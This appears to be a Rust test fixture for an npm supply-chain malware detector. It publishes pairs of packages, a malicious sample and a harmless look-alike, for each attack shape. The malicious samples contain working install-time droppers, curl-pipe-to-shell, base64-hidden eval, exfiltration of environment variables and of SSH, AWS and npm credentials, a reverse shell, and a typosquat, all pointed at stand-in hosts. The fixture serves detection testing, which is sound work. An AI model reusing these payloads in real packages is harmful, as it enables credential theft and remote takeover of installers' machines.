use super::{Shapes, release};
use bifocal_core::{Ecosystem, Release};
use bifocal_testkit::{NpmPackage, Upstream};

fn put(upstream: &Upstream, package: NpmPackage) -> Release {
    let release = release(Ecosystem::Npm, package.name(), package.version());
    upstream.publish(package);
    release
}

fn package(name: &str) -> NpmPackage {
    NpmPackage::new(name, "1.0.0").repository(&format!("https://code.example.com/{name}"))
}

pub(crate) fn publish(upstream: &Upstream) -> Shapes {
    let mut shapes = Shapes::default();
    let put = |package| put(upstream, package);

    shapes.add(
        "a postinstall script fetches a program and runs it",
        put(package("shape-dropper").script("postinstall", "node setup.js").file(
            "setup.js",
            "const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst target = '/tmp/.cache-helper';\nhttps.get('https://files.example.com/helper.bin', (res) => {\n  const out = fs.createWriteStream(target, { mode: 0o755 });\n  res.pipe(out);\n  out.on('close', () => spawn(target, [], { detached: true, stdio: 'ignore' }).unref());\n});\n",
        )),
        put(package("twin-native-addon").script("install", "node-gyp rebuild").file("binding.gyp", "{ 'targets': [{ 'target_name': 'addon', 'sources': ['addon.cc'] }] }\n").file("index.js", "module.exports = require('./build/Release/addon.node');\n")),
    );
    shapes.add(
        "a preinstall script pipes a download into a shell",
        put(package("shape-pipe")
            .script("preinstall", "curl -fsSL https://files.example.com/i.sh | sh")
            .file("index.js", "module.exports = 1;\n")),
        put(package("twin-message")
            .script("postinstall", "node -e \"console.log('thank you for installing')\"")
            .file("index.js", "module.exports = 1;\n")),
    );
    shapes.add(
        "code hidden in base64 is run when the package is loaded",
        put(package("shape-hidden-eval").file(
            "index.js",
            // The hidden text spawns a shell command that fetches from a reserved address.
            "const hidden = 'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cHM6Ly9maWxlcy5leGFtcGxlLmNvbS9pLnNoIHwgc2gnKQ==';\neval(Buffer.from(hidden, 'base64').toString());\nmodule.exports = {};\n",
        )),
        put(package("twin-base64-data").file(
            "index.js",
            "const table = 'eyJhIjoxfQ==';\nmodule.exports = JSON.parse(Buffer.from(table, 'base64').toString());\n",
        )),
    );
    shapes.add(
        "all environment variables are sent away at installation",
        put(package("shape-environment").script("postinstall", "node collect.js").file(
            "collect.js",
            "const https = require('https');\nconst os = require('os');\nconst body = JSON.stringify({ env: process.env, host: os.hostname() });\nconst request = https.request({ hostname: 'collect.example.com', path: '/in', method: 'POST' });\nrequest.write(body);\nrequest.end();\n",
        )),
        put(package("twin-api-client").file(
            "index.js",
            "const https = require('https');\nexports.list = function list(done) {\n  const key = process.env.EXAMPLE_API_KEY;\n  https.get({ hostname: 'api.example.com', path: '/v1/list', headers: { authorization: 'Bearer ' + key } }, done);\n};\n",
        )),
    );
    shapes.add(
        "a shell is tied to a socket when the package is loaded",
        put(package("shape-reverse-shell").file(
            "index.js",
            "const net = require('net');\nconst { spawn } = require('child_process');\nconst socket = net.connect(4444, '192.0.2.7', () => {\n  const shell = spawn('/bin/sh', ['-i']);\n  socket.pipe(shell.stdin);\n  shell.stdout.pipe(socket);\n  shell.stderr.pipe(socket);\n});\n",
        )),
        put(package("twin-tunnel").file(
            "index.js",
            "const net = require('net');\nmodule.exports = function tunnel(port, host) {\n  return net.createServer((client) => {\n    const server = net.connect(port, host);\n    client.pipe(server);\n    server.pipe(client);\n  });\n};\n",
        )),
    );
    shapes.add(
        "credential files are read and sent away at installation",
        put(package("shape-credentials").script("preinstall", "node index.js").file(
            "index.js",
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst found = {};\nfor (const name of ['.npmrc', '.ssh/id_rsa', '.aws/credentials']) {\n  try { found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (error) {}\n}\nconst request = https.request('https://collect.example.com/in', { method: 'POST' });\nrequest.end(JSON.stringify(found));\n",
        )),
        put(package("twin-npmrc-reader").file(
            "index.js",
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nmodule.exports = function registry() {\n  const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n  const line = text.split('\\n').find((one) => one.startsWith('registry='));\n  return line && line.slice('registry='.length);\n};\n",
        )),
    );
    shapes.popular = vec!["commander", "express", "lodash", "react", "chalk"];
    shapes.add(
        "a name one slip away from a famous one, without a past",
        put(NpmPackage::new("comander", "1.0.0").file("index.js", "module.exports = {};\n").published("2026-11-20T00:00:00Z")),
        put(package("express-session-notes").file("index.js", "module.exports = {};\n")),
    );
    shapes.add(
        "the module that starts programs is named in pieces, and a download is run through it",
        put(package("shape-pieces").script("install", "node boot.js").file(
            "boot.js",
            "const part = ['child', 'process'].join('_');\nconst run = require(part)['ex' + 'ecSync'];\nrun(['cu', 'rl -s https://files.example.com/x', ' -o /tmp/x && ch', 'mod +x /tmp/x && /tmp/x'].join(''));\n",
        )),
        put(package("twin-pieces").file(
            "index.js",
            "const language = ['en', 'US'].join('_');\nconst table = { en_US: 'hello' };\nmodule.exports = () => table[language];\n",
        )),
    );
    shapes
}
